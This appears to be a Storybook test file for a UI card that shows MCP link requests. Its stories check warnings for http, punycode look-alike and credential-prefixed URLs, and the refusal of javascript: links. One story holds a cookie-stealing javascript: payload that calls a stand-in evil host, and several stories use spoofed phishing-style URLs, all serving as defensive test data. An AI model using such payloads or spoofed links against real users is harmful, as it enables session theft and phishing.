import { expect, fn, spyOn, userEvent, waitFor, within } from 'storybook/test';
import preview from '../.storybook/preview.tsx';
import { InputRequestCard, parseSuspension } from '../src/index.ts';

/** A round with one URL-mode request, keyed `login`, as an MCP 2026-07-28 server sends it. */
function linkRound(url: string, message = 'Connect your calendar account to continue.') {
  return parseSuspension(
    {
      resultType: 'input_required',
      inputRequests: { login: { method: 'elicitation/create', params: { mode: 'url', message, url } } },
      requestState: 'v1.link',
    },
    { serverName: 'Calendar', toolName: 'connect_account' },
  );
}

/**
 * Link requests (MCP URL mode): the full URL with its site emphasised, warnings for what looks
 * wrong, Open only on a click, then Done or Cancel (on MCP 2025, Open answers at once).
 * `window.open` is stubbed in these stories,
 * so nothing really opens.
 */
const meta = preview.meta({
  title: 'Card/Link request',
  component: InputRequestCard,
  args: {
    suspension: linkRound('https://accounts.example.com/oauth/authorize?client_id=cal&state=8f2c'),
    resume: fn(async () => undefined),
  },
  beforeEach: () => {
    const open = spyOn(window, 'open').mockReturnValue(null);
    return () => open.mockRestore();
  },
});

export default meta;

const urlOf = (canvasElement: HTMLElement) => canvasElement.querySelector<HTMLElement>('[data-part="url"]')!;

/** An ordinary https link: the whole URL, its site in bold, no warning, and nothing opened yet. */
export const Https = meta.story({
  play: async ({ args, canvas, canvasElement }) => {
    const url = urlOf(canvasElement);
    await expect(url).toHaveTextContent(
      'https://accounts.example.com/oauth/authorize?client_id=cal&state=8f2c',
    );
    await expect(url).toHaveAttribute('dir', 'ltr');
    // The Public Suffix List arrives as a lazy chunk; until then the whole host is emphasised.
    await expect((await within(url).findByText('example.com')).tagName).toBe('STRONG');
    await expect(canvas.getByText('Site:')).toHaveTextContent('Site: accounts.example.com');
    await expect(canvasElement.querySelector('[data-part="warning"]')).toBeNull();
    await expect(canvasElement.querySelector('a, [href]')).toBeNull();
    await expect(canvas.getByRole('button', { name: 'Open link' })).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Decline' })).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Cancel' })).toBeVisible();
    await expect(window.open).not.toHaveBeenCalled();
    await expect(args.resume).not.toHaveBeenCalled();
  },
});

/** Plain http: a warning line, also read out with the Open button, which is no primary action: "Open anyway". */
export const HttpWarning = meta.story({
  args: {
    suspension: linkRound('http://intranet.example.org/approve?id=4411', 'Approve the expense report.'),
  },
  play: async ({ canvas }) => {
    const warning = canvas.getByText(/This address is not encrypted \(http\)/);
    await expect(warning).toBeVisible();
    const open = canvas.getByRole('button', { name: 'Open anyway' });
    await expect(open).toHaveAccessibleDescription(
      expect.stringContaining('This address is not encrypted (http).'),
    );
    // Drawn as the other buttons are, not filled as the primary action.
    const accent = getComputedStyle(open.closest('[data-part="card"]') as HTMLElement)
      .getPropertyValue('--irc-accent')
      .trim();
    const probe = document.createElement('span');
    probe.style.color = accent;
    open.after(probe);
    const accentRgb = getComputedStyle(probe).color;
    probe.remove();
    await expect(getComputedStyle(open).backgroundColor).not.toBe(accentRgb);
  },
});

/** A look-alike host: the Cyrillic "а" in "аpple.com" shows as punycode, decoded next to it, and the mixed alphabets are named. */
export const Punycode = meta.story({
  args: { suspension: linkRound('https://\u0430pple.com/account/verify', 'Verify your Apple ID.') },
  play: async ({ canvas, canvasElement }) => {
    await expect(urlOf(canvasElement)).toHaveTextContent('https://xn--pple-43d.com/account/verify');
    await expect(
      canvas.getByText(
        /it reads “\u2068\u0430pple\.com\u2069”, but its real address is \u2068xn--pple-43d\.com\u2069/,
      ),
    ).toBeVisible();
    await expect(
      canvas.getByText(/mixes letters from different alphabets \(Cyrillic and Latin\)/),
    ).toBeVisible();
  },
});

/** Credentials before the host make the link read as one site while it goes to another. */
export const Credentials = meta.story({
  args: {
    suspension: linkRound('https://www.google.com:login@sign-in.example.net/session', 'Sign in to continue.'),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText(/has a user name or password in front of the site name/)).toBeVisible();
    await expect(canvasElement.querySelector('[data-part="url-domain"]')).toHaveTextContent('example.net');
    await expect(canvas.getByText('Site:')).toHaveTextContent('Site: sign-in.example.net');
  },
});

/** `javascript:` is refused with its reason; there is no Open button, and clicking the text does nothing. */
export const JavascriptRefused = meta.story({
  args: {
    suspension: linkRound(
      'javascript:fetch("https://evil.example/?c="+document.cookie)',
      'Click to continue.',
    ),
  },
  play: async ({ args, canvas, canvasElement }) => {
    await expect(
      canvas.getByText('This link uses “javascript”, which is not a web address, so it cannot be opened.'),
    ).toBeVisible();
    await expect(canvas.queryByRole('button', { name: /open/i })).toBeNull();
    await userEvent.click(urlOf(canvasElement));
    await expect(window.open).not.toHaveBeenCalled();
    await userEvent.click(canvas.getByRole('button', { name: 'Decline' }));
    await waitFor(() =>
      expect(args.resume).toHaveBeenCalledWith({ login: { action: 'decline' } }, expect.anything()),
    );
  },
});

/** After Open: the link opened in a new tab without opener or referrer; Done (focused) finishes, Cancel gives up. */
export const AfterOpenWaiting = meta.story({
  play: async ({ args, canvas }) => {
    await userEvent.click(canvas.getByRole('button', { name: 'Open link' }));
    await expect(window.open).toHaveBeenCalledWith(
      'https://accounts.example.com/oauth/authorize?client_id=cal&state=8f2c',
      '_blank',
      'noopener,noreferrer',
    );
    await expect(canvas.getByText('Finish in the new tab, then press Done.')).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Done' })).toHaveFocus();
    await expect(canvas.getByRole('button', { name: 'Open again' })).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Cancel' })).toBeVisible();
    await expect(args.resume).not.toHaveBeenCalled();
  },
});

/** Done answers accept: in URL mode that means the person consented to open the link. */
export const DoneAccepts = meta.story({
  play: async ({ args, canvas }) => {
    await userEvent.click(canvas.getByRole('button', { name: 'Open link' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Done' }));
    await waitFor(() =>
      expect(args.resume).toHaveBeenCalledWith({ login: { action: 'accept' } }, expect.anything()),
    );
    await waitFor(() => expect(canvas.getByText('You answered.')).toHaveFocus());
  },
});

/**
 * An MCP 2025 request (it carries an `elicitationId`): Open is the consent, so it answers accept at
 * once, and the server does not wait (and time out) while the person signs in on the other page.
 * The card closes to "You opened the link. Continue on the page that opened.", with Open again for a
 * tab that never opened (a blocked pop-up) or was closed too soon: it only opens.
 */
export const Mcp2025OpenAccepts = meta.story({
  args: {
    suspension: parseSuspension(
      {
        jsonrpc: '2.0',
        id: 12,
        method: 'elicitation/create',
        params: {
          mode: 'url',
          message: 'Sign in to your calendar account.',
          url: 'https://accounts.example.com/oauth/authorize?client_id=cal&state=2025',
          elicitationId: 'sign-in-story',
        },
      },
      { serverName: 'Calendar' },
    ),
  },
  play: async ({ args, canvas }) => {
    await userEvent.click(canvas.getByRole('button', { name: 'Open link' }));
    await expect(window.open).toHaveBeenCalledWith(
      'https://accounts.example.com/oauth/authorize?client_id=cal&state=2025',
      '_blank',
      'noopener,noreferrer',
    );
    await waitFor(() =>
      expect(args.resume).toHaveBeenCalledWith({ elicitation: { action: 'accept' } }, expect.anything()),
    );
    await expect(canvas.queryByRole('button', { name: 'Done' })).toBeNull();
    // Not "You answered.": the step goes on in the page that opened.
    await expect(
      await canvas.findByText('You opened the link. Continue on the page that opened.', {
        selector: '[data-part="outcome"]',
      }),
    ).toHaveFocus();
    await expect(canvas.getByRole('button', { name: 'Open again' })).toBeVisible();
  },
});

/** A long URL wraps inside the card instead of widening it. */
export const LongUrl = meta.story({
  args: {
    suspension: linkRound(
      `https://login.microsoftonline.example.com/common/oauth2/v2.0/authorize?client_id=${'0123456789abcdef'.repeat(6)}&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid%20profile%20offline_access`,
    ),
  },
  play: async ({ canvasElement }) => {
    const card = canvasElement.querySelector<HTMLElement>('[data-part="card"]')!;
    await expect(card.scrollWidth).toBeLessThanOrEqual(card.clientWidth);
  },
});
